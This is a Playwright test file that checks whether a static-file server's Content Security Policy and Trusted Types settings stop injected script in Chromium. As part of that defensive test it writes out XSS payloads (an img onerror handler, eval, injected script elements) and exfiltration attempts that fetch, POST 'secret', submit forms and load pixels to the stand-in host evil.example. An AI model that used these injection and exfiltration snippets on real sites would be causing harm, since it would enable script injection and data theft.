import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, test } from '@playwright/test'
import { describeManifest, parseManifest } from '#main/static-files/manifest.ts'
import { createStaticFileHandler } from '#main/static-files/serve.ts'

// What an attacker would try who got a line of script into the page; tried by the page itself, since Playwright's own calls pass by the policy.
const ATTACKS = `
const outcomes = {}
const attempt = (name, run) => { try { const value = run(); outcomes[name] = value === undefined ? 'done' : value } catch (error) { outcomes[name] = error.name } }
attempt('inline script element', () => { const s = document.createElement('script'); s.text = 'window.pwned = 1'; document.body.append(s) })
attempt('script from elsewhere', () => { const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s) })
attempt('eval', () => eval('1'))
attempt('new Function', () => new Function('return 1')())
attempt('timer with text', () => setTimeout('window.pwned = 1', 0))
attempt('innerHTML', () => { document.body.innerHTML += '<img src=x onerror="window.pwned = 1">' })
attempt('insertAdjacentHTML', () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'))
attempt('document.write', () => document.write('<b>x</b>'))
attempt('srcdoc', () => { const f = document.createElement('iframe'); f.srcdoc = '<script>1</script>' })
attempt('worker from a blob', () => { new Worker(URL.createObjectURL(new Blob(['1']))) })
attempt('a policy of its own', () => { trustedTypes.createPolicy('evil', { createHTML: (html) => html }) })
attempt('a second policy under Vue’s name', () => { trustedTypes.createPolicy('vue', { createHTML: (html) => html }); trustedTypes.createPolicy('vue', {}) })
attempt('style attribute', () => { const p = document.createElement('p'); p.setAttribute('style', 'color: rgb(1, 2, 3)'); document.body.append(p); return getComputedStyle(p).color === 'rgb(1, 2, 3)' ? 'done' : 'blocked' })
const frame = document.createElement('iframe'); frame.src = 'https://evil.example/'; document.body.append(frame)
const image = document.createElement('img'); image.src = 'https://evil.example/pixel.png'; document.body.append(image)
const form = document.createElement('form'); form.action = 'https://evil.example/'; document.body.append(form); form.submit()
const base = document.createElement('base'); base.href = 'https://evil.example/'; document.head.append(base)
fetch('https://evil.example/', { method: 'POST', body: 'secret' }).catch((error) => { outcomes['fetch elsewhere'] = error.name })
fetch('/app.js').then((response) => { outcomes['fetch of our own'] = response.status })
const p = document.createElement('p'); p.style.color = 'rgb(4, 5, 6)'; document.body.append(p); outcomes['style by CSSOM'] = getComputedStyle(p).color
window.outcomes = outcomes
`

const FILES: Readonly<Record<string, string>> = {
  // The listener comes first: a breach reported before it is there would be missed, sooner or later by one engine or another.
  'index.html': '<!doctype html><html><head><title>x</title><script src="/listen.js"></script></head><body><img src="x" onerror="window.pwned = 1"><script>window.pwned = 1</script><script src="/app.js"></script></body></html>',
  'listen.js': `window.violated = []\ndocument.addEventListener('securitypolicyviolation', (event) => window.violated.push(event.effectiveDirective))`,
  'app.js': ATTACKS,
}

let server: Server
let origin: string

test.beforeAll(async () => {
  let handle: (request: Request) => Promise<Response>
  server = createServer((incoming, outgoing) => {
    void handle(new Request(`${origin}${incoming.url}`, { method: incoming.method ?? '' })).then(async (answer) => {
      outgoing.writeHead(answer.status, Object.fromEntries(answer.headers))
      outgoing.end(Buffer.from(await answer.arrayBuffer()))
    })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  handle = createStaticFileHandler({
    origin,
    manifest: parseManifest(describeManifest(Object.keys(FILES))),
    read: async (file) => new TextEncoder().encode(FILES[file]),
  })
})
test.afterAll(() => server.close())

test('a real Chromium under our policy runs our files, and nothing that an attacker adds', async ({ page }) => {
  const elsewhere: (string | undefined)[] = []
  page.on('requestfailed', (request) => elsewhere.push(request.failure()?.errorText))
  page.on('response', (response) => {
    if (!response.url().startsWith(`${origin}/`)) elsewhere.push(response.url())
  })
  const complaints: string[] = []
  page.on('console', (message) => complaints.push(message.text()))
  // Not until `load`: what the policy stops may leave it waiting.
  await page.goto(`${origin}/`, { waitUntil: 'commit' })
  await expect.poll(() => page.evaluate('window.outcomes?.["fetch of our own"]')).toBe(200)

  expect(await page.evaluate('outcomes')).toEqual({
    'inline script element': 'TypeError',
    'script from elsewhere': 'TypeError',
    eval: 'EvalError',
    'new Function': 'EvalError',
    'timer with text': 'TypeError',
    innerHTML: 'TypeError',
    insertAdjacentHTML: 'TypeError',
    'document.write': 'TypeError',
    srcdoc: 'TypeError',
    'worker from a blob': 'TypeError',
    'a policy of its own': 'TypeError',
    'a second policy under Vue’s name': 'TypeError',
    'style attribute': 'blocked',
    'style by CSSOM': 'rgb(4, 5, 6)',
    'fetch elsewhere': 'TypeError',
    'fetch of our own': 200,
  })
  expect(await page.evaluate('window.pwned')).toBeUndefined()
  expect(new Set((await page.evaluate('violated')) as string[])).toEqual(new Set([
    'script-src-elem', 'script-src-attr', 'require-trusted-types-for', 'trusted-types', 'style-src-attr', 'frame-src', 'img-src', 'form-action', 'base-uri', 'connect-src',
  ]))
  expect(new Set(elsewhere)).toEqual(new Set(['csp']))
  expect(complaints.filter((text) => text.includes('Permissions-Policy'))).toEqual([])
})
